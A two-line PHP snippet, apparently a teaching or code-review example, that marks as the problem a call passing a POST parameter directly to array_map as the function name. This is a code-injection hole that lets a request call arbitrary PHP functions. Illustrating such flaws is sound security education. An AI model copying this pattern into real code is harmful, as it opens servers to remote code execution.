<?php
$result = array_map($_POST['function'], [1, 2]); // ← here
